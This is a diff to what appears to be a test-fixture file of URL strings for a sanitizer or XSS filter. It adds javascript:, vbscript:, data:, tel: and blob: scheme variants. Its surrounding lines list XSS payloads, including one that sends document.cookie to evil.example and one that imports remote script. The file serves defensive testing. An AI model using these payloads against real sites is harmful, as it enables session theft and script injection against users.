@@ -45,6 +45,10 @@ const script = [
   'javascript:fetch("//evil.example/"+document.cookie)',
   'javascript:window.opener.location="//evil.example"',
   'javascript:import("//evil.example/x.js")',
+  'javascript:1',
+  'javascript:1/alert(1)',
+  'JavaScript:0?alert(1)',
+  'vbscript:1#x',
   'jscript:alert(1)',
   'livescript:alert(1)',
   'mocha:alert(1)',
@@ -76,6 +80,7 @@ const data = [
   'data:,alert(1)',
   'data:',
   'data:;base64,AAAA',
+  'data:1',
 ]
 
 const schemes = [
@@ -89,6 +94,8 @@ const schemes = [
   'wss://example.com/',
   'mailto:someone@example.com',
   'tel:+123456789',
+  'tel:123456789',
+  'blob:1',
   'sms:+123456789',
   'intent://example.com/#Intent;scheme=https;end',
   'market://details?id=a.b',
@@ -155,7 +162,6 @@ export const oddUrls: readonly string[] = [
   '///evil.example/a',
   '\\\\evil.example\\a',
   '/\\evil.example',
-  'javascript:1/alert(1)',
   'javascript&colon;alert(1)',
   'javascript&#58;alert(1)',
   'javascript%3Aalert(1)',
